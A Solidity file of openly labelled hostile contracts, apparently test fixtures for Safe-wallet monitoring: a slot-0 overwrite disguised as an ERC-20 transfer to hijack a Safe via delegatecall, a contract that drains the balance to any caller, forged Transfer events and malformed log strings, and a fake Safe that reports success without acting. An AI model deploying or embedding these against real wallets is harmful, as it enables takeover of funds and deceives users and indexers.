// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

/// What a Safe must never delegatecall: it runs in the Safe's own storage, and no log tells of it.
contract SlotThief {
    /// Overwrites slot 0, where every Safe proxy keeps the address of its code. Shaped like an ERC-20 transfer, so that a
    /// glance at the selector sees something harmless.
    function transfer(address newCode, uint256) external returns (bool) {
        assembly {
            sstore(0, newCode)
        }
        return true;
    }
}

/// The code behind a Safe whose slot 0 was overwritten: pays out to whoever asks.
contract Drain {
    function sweep(address payable to) external {
        (bool ok, ) = to.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}

/// Logs that no honest contract writes.
contract Noise {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Named(string name);

    /// A log without any topic.
    function zeroTopics(bytes calldata data) external {
        bytes memory copy = data;
        assembly {
            log0(add(copy, 0x20), mload(copy))
        }
    }

    /// Four topics and data of the caller's choice.
    function fourTopics(bytes32 a, bytes32 b, bytes32 c, bytes32 d, bytes calldata data) external {
        bytes memory copy = data;
        assembly {
            log4(add(copy, 0x20), mload(copy), a, b, c, d)
        }
    }

    /// A transfer that never happened, of a token that does not exist, naming anyone.
    function forgeTransfer(address from, address to, uint256 value) external {
        emit Transfer(from, to, value);
    }

    /// Bytes that claim to be a string: escape codes, direction marks, invalid UTF-8, markup.
    function named(bytes calldata name) external {
        emit Named(string(name));
    }
}

/// Looks like a Safe from outside: takes every execTransaction, says that it succeeded, does nothing.
contract FakeSafe {
    event ExecutionSuccess(bytes32 indexed txHash, uint256 payment);
    event AddedOwner(address indexed owner);
    event ChangedThreshold(uint256 threshold);

    function execTransaction(
        address,
        uint256,
        bytes calldata data,
        uint8,
        uint256,
        uint256,
        uint256,
        address,
        address payable,
        bytes calldata
    ) external payable returns (bool) {
        emit ExecutionSuccess(keccak256(data), 0);
        return true;
    }

    function pretend(address owner, uint256 threshold) external {
        emit AddedOwner(owner);
        emit ChangedThreshold(threshold);
    }

    function getOwners() external pure returns (address[] memory) {
        return new address[](0);
    }

    function getThreshold() external pure returns (uint256) {
        return 1;
    }

    function VERSION() external pure returns (string memory) {
        return "1.4.1";
    }
}
